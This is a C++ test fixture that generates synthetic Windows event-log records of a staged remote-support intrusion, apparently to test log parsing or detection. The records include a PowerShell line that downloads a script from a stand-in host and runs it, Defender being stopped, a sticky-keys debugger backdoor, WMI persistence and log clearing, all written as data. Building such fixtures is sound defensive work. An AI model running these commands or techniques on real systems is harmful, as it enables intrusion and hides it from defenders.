// SPDX-FileCopyrightText: Callwake contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "support/evtx_samples.h"

namespace callwake::test {

namespace {

using Data = std::vector<EvtxData>;

const std::string computer = "NG-PC-114.northgate.example";
const std::string userSid = "S-1-5-21-3100-4200-5300-1107";
const std::string downloads = R"(C:\Users\clindqvist\Downloads\)";

std::uint64_t at(int minute, int second)
{
    using namespace std::chrono;
    return filetimeOf(*instantFromFields(2026, 6, 18, 13, minute, second) + 118us) + 7;
}

/// As Sysmon writes when it happened: here 50 ms before it was logged.
std::string utcTime(std::uint64_t filetime)
{
    std::string text = formatIso(*instantFromFiletime(filetime - 500'000));
    text[10] = ' ';
    return text.substr(0, std::string_view("2026-06-18 13:40:00.000").size());
}

/// Numbers its events in the order they are made.
class Story {
public:
    std::vector<EvtxEvent> events;

    EvtxEvent& add(const std::string& provider, std::uint16_t id, std::uint64_t time, Data data)
    {
        EvtxEvent event;
        event.provider = provider;
        event.eventId = id;
        event.recordId = 4100 + events.size();
        event.filetime = time;
        event.computer = computer;
        event.channel = provider.ends_with("Auditing") ? "Security" : "Application";
        event.data = std::move(data);
        return events.emplace_back(std::move(event));
    }

    void security(std::uint16_t id, std::uint64_t time, Data data)
    {
        Data all{evtxSid("SubjectUserSid", userSid), evtxText("SubjectUserName", "clindqvist"),
            evtxText("SubjectDomainName", "NORTHGATE"), evtxHex64("SubjectLogonId", 0x53ca2)};
        all.insert(all.end(), data.begin(), data.end());
        add("Microsoft-Windows-Security-Auditing", id, time, std::move(all));
    }

    void sysmon(std::uint16_t id, std::uint64_t time, Data data)
    {
        Data all{evtxText("RuleName", "-"), evtxText("UtcTime", utcTime(time)),
            evtxGuid("ProcessGuid", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"),
            evtxUInt32("ProcessId", 7340), evtxText("Image", downloads + "AnyDesk.exe")};
        all.insert(all.end(), data.begin(), data.end());
        add("Microsoft-Windows-Sysmon", id, time, std::move(all)).channel =
            "Microsoft-Windows-Sysmon/Operational";
    }
};

void addSecurity(Story& story)
{
    story.security(4688, at(36, 5),
        {evtxHex64("NewProcessId", 0x1cac), evtxText("NewProcessName", downloads + "AnyDesk.exe"),
            evtxText("TokenElevationType", "%%1938"), evtxHex64("ProcessId", 0xbd8),
            evtxText("CommandLine", "\"" + downloads + "AnyDesk.exe\" --silent"),
            evtxSid("TargetUserSid", "S-1-0-0"), evtxText("TargetUserName", "-"),
            evtxText("TargetDomainName", "-"), evtxHex64("TargetLogonId", 0),
            evtxText("ParentProcessName", R"(C:\Windows\explorer.exe)"),
            evtxSid("MandatoryLabel", "S-1-16-8192")});
    story.events.back().version = 2;
    const auto logon = [&](std::uint64_t time, std::string_view user, std::uint32_t type) {
        story.security(4624, time,
            {evtxSid("TargetUserSid", "S-1-5-18"), evtxText("TargetUserName", user),
                evtxText("TargetDomainName", "NORTHGATE"), evtxHex64("TargetLogonId", 0x9f2a1),
                evtxUInt32("LogonType", type), evtxText("LogonProcessName", "User32 "),
                evtxText("AuthenticationPackageName", "Negotiate"),
                evtxText("WorkstationName", "-"), evtxHex64("ProcessId", 0x2f4),
                evtxText("ProcessName", R"(C:\Windows\System32\svchost.exe)"),
                evtxText("IpAddress", "198.51.100.23"), evtxText("IpPort", "50112")});
    };
    logon(at(37, 0), "clindqvist", 2);
    logon(at(37, 1), "clindqvist", 10);
    logon(at(37, 2), "NG-PC-114$", 5);
    story.security(4697, at(38, 0),
        {evtxText("ServiceName", "AnyDesk"),
            evtxText(
                "ServiceFileName", R"("C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service)"),
            evtxText("ServiceType", "0x10"), evtxUInt32("ServiceStartType", 2),
            evtxText("ServiceAccount", "LocalSystem")});
    story.security(4698, at(38, 30),
        {evtxText("TaskName", R"(\Support\Session)"),
            evtxText("TaskContent",
                "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><RegistrationInfo>"
                "<Author>NORTHGATE\\clindqvist</Author></RegistrationInfo><Actions><Exec>"
                "<Command>cmd.exe</Command><Arguments>/c start &quot;&quot; a.cmd &amp;&amp; "
                "exit</Arguments>"
                "</Exec></Actions></Task>")});
    story.security(4673, at(38, 40), {evtxText("PrivilegeList", "SeTcbPrivilege")});
    auto& cleared = story.add("Microsoft-Windows-Eventlog", 1102, at(59, 0),
        {evtxSid("SubjectUserSid", userSid), evtxText("SubjectUserName", "clindqvist"),
            evtxText("SubjectDomainName", "NORTHGATE"), evtxHex64("SubjectLogonId", 0x53ca2)});
    cleared.channel = "Security";
    cleared.userData = "LogFileCleared";
}

void addSystem(Story& story)
{
    auto& service = story.add("Service Control Manager", 7045, at(38, 1),
        {evtxText("ServiceName", "AnyDesk"),
            evtxText("ImagePath", R"("C:\Program Files (x86)\AnyDesk\AnyDesk.exe" --service)"),
            evtxText("ServiceType", "user mode service"), evtxText("StartType", "auto start"),
            evtxText("AccountName", "LocalSystem")});
    service.channel = "System";
    service.userSid = userSid;
    auto& cleared = story.add("Microsoft-Windows-Eventlog", 104, at(59, 1),
        {evtxText("SubjectUserName", "clindqvist"), evtxText("SubjectDomainName", "NORTHGATE"),
            evtxText("Channel", "System"), evtxText("BackupPath", "")});
    cleared.channel = "System";
    cleared.userData = "LogFileCleared";
    auto& task = story.add("Microsoft-Windows-TaskScheduler", 106, at(38, 31),
        {evtxText("TaskName", R"(\Support\Session)"),
            evtxText("UserContext", R"(NORTHGATE\clindqvist)")});
    task.channel = "Microsoft-Windows-TaskScheduler/Operational";
    task.userSid = "S-1-5-18";
}

void addSysmon(Story& story)
{
    story.sysmon(1, at(36, 6),
        {evtxText("FileVersion", "8.0.9"), evtxText("Description", "AnyDesk"),
            evtxText("Product", "AnyDesk"), evtxText("Company", "AnyDesk Software GmbH"),
            evtxText("OriginalFileName", "AnyDesk.exe"),
            evtxText("CommandLine", "\"" + downloads + "AnyDesk.exe\" --silent"),
            evtxText("CurrentDirectory", downloads), evtxText("User", R"(NORTHGATE\clindqvist)"),
            evtxHex64("LogonId", 0x53ca2), evtxText("IntegrityLevel", "Medium"),
            evtxText("Hashes", "SHA1=00,MD5=11,SHA256=22AA,IMPHASH=33"),
            evtxGuid("ParentProcessGuid", "{5770385f-c22a-43e0-bf4c-06f5698ffb00}"),
            evtxUInt32("ParentProcessId", 3032),
            evtxText("ParentImage", R"(C:\Windows\explorer.exe)"),
            evtxText("ParentCommandLine", "explorer.exe")});
    story.sysmon(3, at(36, 8),
        {evtxText("User", R"(NORTHGATE\clindqvist)"), evtxText("Protocol", "tcp"),
            evtxText("Initiated", "true"), evtxText("SourceIp", "192.0.2.14"),
            evtxText("DestinationIp", "198.51.100.23"),
            evtxText("DestinationHostname", "relay-7.remote.example"),
            evtxUInt32("DestinationPort", 443)});
    story.sysmon(11, at(35, 58),
        {evtxText("TargetFilename", downloads + "AnyDesk.exe"),
            evtxText("CreationUtcTime", "2026-06-18 13:35:58.000"),
            evtxText("User", R"(NORTHGATE\clindqvist)")});
    const auto stream = [&](const std::string& name, std::string_view contents) {
        story.sysmon(15, at(35, 59),
            {evtxText("TargetFilename", downloads + "AnyDesk.exe" + name),
                evtxText("CreationUtcTime", "2026-06-18 13:35:58.000"),
                evtxText("Hash", "SHA256=22AA"), evtxText("Contents", contents),
                evtxText("User", R"(NORTHGATE\clindqvist)")});
    };
    stream(":Zone.Identifier",
        "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://help.support.example/  "
        "HostUrl=https://download.remote.example/AnyDesk.exe");
    stream(":notes", "");
    story.sysmon(22, at(36, 7),
        {evtxText("QueryName", "relay-7.remote.example"), evtxText("QueryStatus", "0"),
            evtxText("QueryResults", "::ffff:198.51.100.23;"),
            evtxText("User", R"(NT AUTHORITY\SYSTEM)")});
    story.sysmon(5, at(50, 0), {});
}

void addApplications(Story& story)
{
    story.add("MsiInstaller", 1040, at(37, 50),
        {evtxText("", "https://download.remote.example/Support.msi?x=1"), evtxText("", "1836"),
            evtxText("", "(NULL)")});
    story.add("MsiInstaller", 11707, at(37, 58),
        {evtxText("", "Product: Support Client -- Installation completed successfully."),
            evtxText("", "(NULL)")});
    story.add("MsiInstaller", 1033, at(37, 59),
        {evtxText("", "Support Client"), evtxText("", "24.1"), evtxText("", "1033"),
            evtxText("", "0"), evtxText("", "Remote Example Ltd"), evtxText("", "(NULL)")});
    for (std::size_t i = story.events.size() - 3; i < story.events.size(); ++i)
        story.events[i].userSid = userSid;
    const auto defender = [&](std::uint16_t id, const std::string& value) {
        story
            .add("Microsoft-Windows-Windows Defender", id, at(39, id % 60),
                {evtxText("Product Name", "Microsoft Defender Antivirus"),
                    evtxText("Product Version", "4.18.1"), evtxText("Old Value", ""),
                    evtxText("New Value", value)})
            .userSid = "S-1-5-18";
    };
    defender(5001, "");
    defender(5007, R"(HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\Users = 0x0)");
    defender(5007, R"(HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\Due = 0x1)");
}

/// What goes wrong, what is done to accounts, and what the firewall says, all of the security log.
void addAccounts(Story& story)
{
    story.security(4625, at(40, 0),
        {evtxText("TargetUserName", "clindqvist"), evtxText("TargetDomainName", "NORTHGATE"),
            evtxHex32("Status", 0xc000006d), evtxHex32("SubStatus", 0xc000006a),
            evtxUInt32("LogonType", 3), evtxText("WorkstationName", "UNKNOWN-7"),
            evtxHex64("ProcessId", 0), evtxText("ProcessName", "-"),
            evtxText("IpAddress", "198.51.100.23"), evtxText("IpPort", "50177")});
    story.security(4648, at(40, 1),
        {evtxText("TargetUserName", "svc-backup"), evtxText("TargetDomainName", "NORTHGATE"),
            evtxText("TargetServerName", "files.northgate.example"), evtxHex64("ProcessId", 0x1f40),
            evtxText("ProcessName", R"(C:\Windows\System32\runas.exe)"),
            evtxText("IpAddress", "192.0.2.60"), evtxText("IpPort", "445")});
    const auto target = [](std::string_view user, Data more) {
        Data all{evtxText("TargetUserName", user), evtxText("TargetDomainName", "NORTHGATE"),
            evtxSid("TargetSid", "S-1-5-21-3100-4200-5300-1190")};
        all.insert(all.end(), more.begin(), more.end());
        return all;
    };
    for (const std::uint16_t id : {4720, 4722, 4723, 4724, 4725, 4726, 4738, 4767})
        story.security(id, at(41, id % 60), target("support7", {}));
    for (const std::uint16_t id : {4728, 4729, 4732, 4733, 4756, 4757})
        story.security(id, at(42, id % 60),
            target("Remote Desktop Users",
                {evtxText("MemberName", id == 4728 ? "CN=Support 7,DC=northgate,DC=example" : "-"),
                    evtxSid("MemberSid", "S-1-5-21-3100-4200-5300-1190")}));
    story.security(4740, at(43, 0),
        {evtxText("TargetUserName", "clindqvist"), evtxText("TargetDomainName", "UNKNOWN-7"),
            evtxSid("TargetSid", userSid)});
    story.security(4781, at(43, 1),
        {evtxText("OldTargetUserName", "support7"), evtxText("NewTargetUserName", "Guest"),
            evtxText("TargetDomainName", "NORTHGATE")});
    story.security(4781, at(43, 2),
        {evtxText("OldTargetUserName", "Users"), evtxText("NewTargetUserName", "Users"),
            evtxText("TargetDomainName", "Builtin")});
    story.security(4634, at(43, 3), {evtxUInt32("LogonType", 3)});
}

void addNetwork(Story& story)
{
    const auto connection = [&](int second, std::string_view program, std::string_view direction,
                                std::string_view destination) {
        story.add("Microsoft-Windows-Security-Auditing", 5156, at(44, second),
            {evtxUInt64("ProcessID", 7340), evtxText("Application", program),
                evtxText("Direction", direction), evtxText("SourceAddress", "192.0.2.14"),
                evtxText("SourcePort", "50112"), evtxText("DestAddress", destination),
                evtxText("DestPort", "443"), evtxUInt32("Protocol", 6)});
    };
    connection(0, R"(\device\harddiskvolume2\users\clindqvist\downloads\anydesk.exe)", "%%14593",
        "198.51.100.23");
    connection(1, R"(\device\harddiskvolume2\windows\system32\quickassist.exe)", "%%14592",
        "2001:db8::23");
    connection(
        2, R"(\device\harddiskvolume2\windows\system32\svchost.exe)", "%%14593", "198.51.100.9");
    connection(3, R"(\device\harddiskvolume2\program files\browser\b.exe)", "%%14593", "127.0.0.1");
    const auto rule = [&](std::uint16_t id, int second, std::string_view name) {
        story.add("Microsoft-Windows-Security-Auditing", id, at(45, second),
            {evtxText("ProfileChanged", "All"), evtxText("RuleId", "{6A3B}"),
                evtxText("RuleName", name)});
    };
    rule(4946, 0, "AnyDesk");
    rule(4947, 1, "AnyDesk");
    rule(4948, 2, "@{Example.App_1.0_x64__0000000000000?ms-resource://App/Name}");
    story.add("Microsoft-Windows-Security-Auditing", 4950, at(45, 3),
        {evtxText("ProfileChanged", "Public"),
            evtxText("SettingType", "Enable Windows Defender Firewall"),
            evtxText("SettingValue", "No")});
    const auto firewall = [&](std::uint16_t id, std::string_view user, std::string_view program) {
        story
            .add("Microsoft-Windows-Windows Firewall With Advanced Security", id, at(46, id % 60),
                {evtxText("RuleId", "{6A3B}"), evtxText("RuleName", "AnyDesk"),
                    evtxText("ApplicationPath", R"(C:\Program Files (x86)\AnyDesk\AnyDesk.exe)"),
                    evtxUInt32("Direction", 1), evtxUInt32("Protocol", 6), evtxUInt32("Action", 3),
                    evtxSid("ModifyingUser", user), evtxText("ModifyingApplication", program)})
            .channel = "Microsoft-Windows-Windows Firewall With Advanced Security/Firewall";
    };
    firewall(2004, userSid, R"(C:\Windows\System32\netsh.exe)");
    firewall(2006, userSid, R"(C:\Windows\System32\netsh.exe)");
    firewall(2005, "S-1-5-18", R"(C:\Windows\System32\svchost.exe)");
}

void addTasks(Story& story)
{
    const std::string provider = "Microsoft-Windows-TaskScheduler";
    const std::string task = R"(\Support\Session)";
    story.add(provider, 140, at(47, 0),
        {evtxText("TaskName", task), evtxText("UserName", R"(NORTHGATE\clindqvist)")});
    story.add(provider, 110, at(47, 1),
        {evtxText("TaskName", task), evtxText("InstanceId", "{1}"),
            evtxText("UserContext", R"(NORTHGATE\clindqvist)")});
    story.add(
        provider, 110, at(47, 2), {evtxText("TaskName", task), evtxText("UserContext", "System")});
    story.add(provider, 129, at(47, 3),
        {evtxText("TaskName", task), evtxText("Path", R"(%windir%\System32\cmd.exe)"),
            evtxUInt32("ProcessID", 1612), evtxUInt32("Priority", 16384)});
    story.add(provider, 200, at(47, 4),
        {evtxText("TaskName", task), evtxText("ActionName", R"(%windir%\System32\cmd.exe)")});
    story.add(provider, 106, at(47, 5),
        {evtxText("TaskName", R"(\Policy)"), evtxText("UserContext", "S-1-5-20")});
    story.add(provider, 141, at(47, 6),
        {evtxText("TaskName", task), evtxText("UserName", R"(NORTHGATE\clindqvist)")});
    const auto consumer = [&](std::string_view name, std::string_view cause) {
        auto& event = story.add("Microsoft-Windows-WMI-Activity", 5861, at(48, 0),
            {evtxText("Namespace", "//./root/subscription"), evtxText("ESS", "Updater"),
                evtxText("CONSUMER", name), evtxText("PossibleCause", cause)});
        event.userData = "Operation_ESStoConsumerBinding";
        event.userSid = userSid;
    };
    consumer("CommandLineEventConsumer=\"Updater\"",
        "Binding EventFilter:\ninstance of __EventFilter\n{\n\tName = \"Updater\";\n};\n"
        "Perm. Consumer:\ninstance of CommandLineEventConsumer\n{\n"
        "\tCommandLineTemplate = \"C:\\\\Support\\\\agent.exe -s\";\n};\n");
    consumer("NTEventLogEventConsumer=\"SCM Event Log Consumer\"", "");
}

void addRemote(Story& story)
{
    const auto session = [&](std::uint16_t id, int second, std::string_view address) {
        story
            .add("Microsoft-Windows-TerminalServices-LocalSessionManager", id, at(49, second),
                {evtxText("User", R"(NORTHGATE\clindqvist)"), evtxUInt32("SessionID", 2),
                    evtxText("Address", address)})
            .userData = "EventXML";
    };
    session(21, 0, "198.51.100.23");
    session(24, 1, "198.51.100.23");
    session(25, 2, "2001:db8::23");
    session(21, 3, "LOCAL");
    session(24, 4, "LOCAL");
    story
        .add("Microsoft-Windows-TerminalServices-RemoteConnectionManager", 1149, at(49, 5),
            {evtxText("Param1", "clindqvist"), evtxText("Param2", "NORTHGATE"),
                evtxText("Param3", "198.51.100.23")})
        .userData = "EventXML";
    for (const std::uint16_t id : {4778, 4779})
        story.add("Microsoft-Windows-Security-Auditing", id, at(49, id % 60),
            {evtxText("AccountName", "clindqvist"), evtxText("AccountDomain", "NORTHGATE"),
                evtxHex64("LogonID", 0x9f2a1), evtxText("SessionName", "RDP-Tcp#4"),
                evtxText("ClientName", "UNKNOWN-7"), evtxText("ClientAddress", "198.51.100.23")});
    const std::string tail =
        "\n\nVersion: 24.1.1.9\nExecutable Path: C:\\Program Files "
        "(x86)\\ScreenConnect Client (00ff)\\ScreenConnect.ClientService.exe\n";
    const auto screen = [&](std::uint16_t id, const std::string& text) {
        story.add("ScreenConnect", id, at(50, id % 60), {evtxText("", text + tail)});
    };
    screen(100, "Mia Operator Connected");
    screen(200, "Executed command of length: 42");
    screen(201, "Transferred files with action 'RunElevated':\nsetup.exe");
    screen(101, "Mia Operator Disconnected");
}

void addScripts(Story& story)
{
    const auto block = [&](int second, std::uint32_t number, std::uint32_t total,
                           std::string_view text, std::string_view id, std::string_view path) {
        auto& event = story.add("Microsoft-Windows-PowerShell", 4104, at(51, second),
            {evtxUInt32("MessageNumber", number), evtxUInt32("MessageTotal", total),
                evtxText("ScriptBlockText", text), evtxText("ScriptBlockId", id),
                evtxText("Path", path)});
        event.userSid = userSid;
        event.channel = "Microsoft-Windows-PowerShell/Operational";
    };
    block(0, 1, 1, "iwr https://download.remote.example/a.ps1 | iex", "a1", "");
    block(1, 1, 3, "function Get-Help", "b2", downloads + "a.ps1");
    block(2, 2, 3, "Desk { 'one'", "b2", downloads + "a.ps1");
    block(3, 3, 3, " }", "b2", downloads + "a.ps1");
    block(4, 2, 4, "the middle of another", "c3", "");
    block(5, 3, 4, " script", "c3", "");
    block(6, 1, 1, "prompt", "d4", "");
    story
        .add("Microsoft-Windows-PowerShell", 4103, at(51, 7),
            {evtxText("ContextInfo",
                 "        Severity = Informational\r\n        Host Application = "
                 "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop\r\n"
                 "        Script Name = \r\n        User = NORTHGATE\\clindqvist\r\n"),
                evtxText("UserData", ""),
                evtxText("Payload",
                    "CommandInvocation(Stop-Service): \"Stop-Service\"\r\n"
                    "ParameterBinding(Stop-Service): name=\"Name\"; value=\"WinDefend\"\r\n")})
        .userSid = userSid;
    story.add("PowerShell", 400, at(51, 8), {evtxText("", "Available")});
}

void addDownloads(Story& story)
{
    const std::string provider = "Microsoft-Windows-Bits-Client";
    const EvtxData job = evtxGuid("jobId", "{5b1d31c1-d25f-44c1-a7ac-b601937c1aff}");
    const std::string url = "https://download.remote.example/AnyDesk.exe";
    story.add(provider, 3, at(52, 0),
        {evtxText("jobTitle", "Support"), job, evtxText("jobOwner", R"(NORTHGATE\clindqvist)"),
            evtxText("processPath", R"(C:\Windows\System32\bitsadmin.exe)"),
            evtxUInt32("processId", 4312)});
    story.add(provider, 16403, at(52, 1),
        {evtxText("User", R"(NORTHGATE\clindqvist)"), evtxText("jobTitle", "Support"), job,
            evtxText("jobOwner", R"(NORTHGATE\clindqvist)"), evtxUInt32("fileCount", 1),
            evtxText("RemoteName", url), evtxText("LocalName", R"(\\?\)" + downloads + "a.exe"),
            evtxUInt32("processId", 4312)});
    for (const std::uint16_t id : {59, 60})
        story.add(provider, id, at(52, id - 50),
            {evtxGuid("transferId", "{f6343a67-5489-4d74-9c5e-4c4e1ab61401}"),
                evtxText("name", "Support"), {"Id", job.type, job.bytes}, evtxText("url", url),
                evtxUInt64("bytesTotal", 5123456)});
    story.add(provider, 61, at(52, 20), {evtxText("url", url), evtxUInt32("hr", 0x80072ee7)});
    const std::string packages = "Microsoft-Windows-AppXDeployment-Server";
    const auto deployed = [&](std::uint16_t id, std::uint32_t operation, std::string_view name,
                              std::string_view user, std::string_view caller) {
        story
            .add(packages, id, at(53, id % 60),
                {evtxUInt32("DeploymentOperation", operation), evtxText("PackageFullName", name),
                    evtxSid("UserSid", user),
                    evtxText("PackageSourceUri", "https://apps.remote.example/h.msix"),
                    evtxText("CallingProcess", caller)})
            .userSid = user;
    };
    deployed(607, 1, "Example.HelpNow_2.4.0.0_x64__0000000000000", userSid, "AppInstaller.exe");
    deployed(400, 1, "Example.HelpNow_2.4.0.0_x64__0000000000000", userSid, "AppInstaller.exe");
    deployed(
        400, 6, "Example.Shell_1.0_neutral__0000000000000", userSid, "svchost.exe,AppReadiness");
    deployed(400, 2, "Example.Game_1.0_x64__0000000000000", userSid, "sihost.exe");
    story.add(packages, 854, at(53, 30), {evtxText("Path", " " + downloads + "HelpNow.msix")})
        .userSid = userSid;
    story.add(packages, 854, at(53, 31),
        {evtxText("Path", R"( C:\Windows\SystemApps\Example.Shell\AppxManifest.xml)")});
}

void addSysmonRegistry(Story& story)
{
    const auto value = [&](std::uint16_t id, int second, std::string_view type,
                           std::string_view key, std::string_view details) {
        Data data{evtxText("EventType", type), evtxText("TargetObject", key)};
        data.push_back(evtxText(id == 14 ? "NewName" : "Details", details));
        data.push_back(evtxText("User", R"(NORTHGATE\clindqvist)"));
        story.sysmon(id, at(54, second), std::move(data));
    };
    value(13, 0, "SetValue",
        R"(HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\AnyDesk)",
        "\"" + downloads + "AnyDesk.exe\" --tray");
    value(13, 1, "SetValue", R"(HKLM\System\CurrentControlSet\Services\AnyDesk\ImagePath)",
        downloads + "AnyDesk.exe --service");
    value(13, 2, "SetValue",
        R"(HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections)",
        "DWORD (0x00000000)");
    value(12, 3, "DeleteValue",
        R"(HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware)", "");
    value(12, 4, "DeleteValue", R"(HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Old)", "");
    value(14, 5, "RenameValue", R"(HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Old)",
        R"(HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\New)");
    value(13, 6, "SetValue", R"(HKU\S-1-5-21\Software\Example\Window)", "Binary Data");
    const std::string options =
        R"(HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe)";
    value(13, 7, "SetValue", options + R"(\Debugger)", "cmd.exe");
    value(12, 8, "CreateKey", options, "");
    value(13, 9, "SetValue", R"(HKLM\SOFTWARE\Microsoft\Windows Defender\Scan\LastRun)", "");
    for (const std::uint16_t id : {26, 27, 29})
        story.sysmon(id, at(55, id),
            {evtxText("User", R"(NORTHGATE\clindqvist)"),
                evtxText("TargetFilename", downloads + "tool.exe"),
                evtxText("Hashes", "SHA1=00,SHA256=44BB")});
    story.add("Microsoft-Windows-Sysmon", 20, at(55, 0),
        {evtxText("Operation", "Created"), evtxText("User", R"(NORTHGATE\clindqvist)"),
            evtxText("Name", "Updater"), evtxText("Type", "Command Line"),
            evtxText("Destination", R"("C:\Support\agent.exe" -s)")});
}

} // namespace

EvtxEvent processEvent(std::uint64_t recordId, const std::string& process)
{
    Story story;
    story.security(4688, at(int(recordId % 60), 0),
        {evtxHex64("NewProcessId", recordId * 4), evtxText("NewProcessName", process),
            evtxHex64("ProcessId", 0xbd8), evtxText("CommandLine", process + " /x")});
    story.events[0].recordId = recordId;
    return story.events[0];
}

std::vector<EvtxEvent> workstationEvents()
{
    Story story;
    addSecurity(story);
    addSystem(story);
    addSysmon(story);
    addApplications(story);
    addAccounts(story);
    addNetwork(story);
    addTasks(story);
    addRemote(story);
    addScripts(story);
    addDownloads(story);
    addSysmonRegistry(story);
    return story.events;
}

std::vector<EvtxEvent> forwardedEvents()
{
    Story story;
    story.add("Microsoft-Windows-Security-Auditing", 4688, at(36, 5),
        {evtxText("SubjectUserName", "clindqvist"), evtxText("SubjectDomainName", "NORTHGATE"),
            evtxText("NewProcessId", "0x1cac"),
            evtxText("NewProcessName", R"(C:\Windows\System32\quickassist.exe)"),
            evtxText("ProcessId", "0xbd8"), evtxText("CommandLine", "quickassist.exe")});
    story.add("MsiInstaller", 1033, at(37, 59),
        {evtxText("", "Zürich Fernhilfe"), evtxText("", "24.1"), evtxText("", "1033"),
            evtxText("", "1603"), evtxText("", "Remote Example Ltd")});
    story.add("Application Error", 1000, at(40, 0), {evtxText("", "a.exe")});
    for (EvtxEvent& event : story.events)
        event.forwarded = true;
    return story.events;
}

std::string written(const std::vector<EvtxEvent>& events)
{
    EvtxWriter writer;
    for (const EvtxEvent& event : events)
        writer.add(event);
    return writer.bytes();
}

} // namespace callwake::test
